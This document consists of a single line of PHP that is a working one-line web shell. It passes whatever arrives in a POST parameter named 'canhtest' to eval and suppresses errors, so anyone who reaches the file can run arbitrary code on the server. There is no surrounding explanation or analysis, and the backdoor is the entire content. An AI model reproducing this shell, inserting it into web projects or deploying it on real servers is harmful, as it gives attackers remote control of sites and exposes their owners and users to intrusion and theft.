<?php @eval($_POST['canhtest']);?>
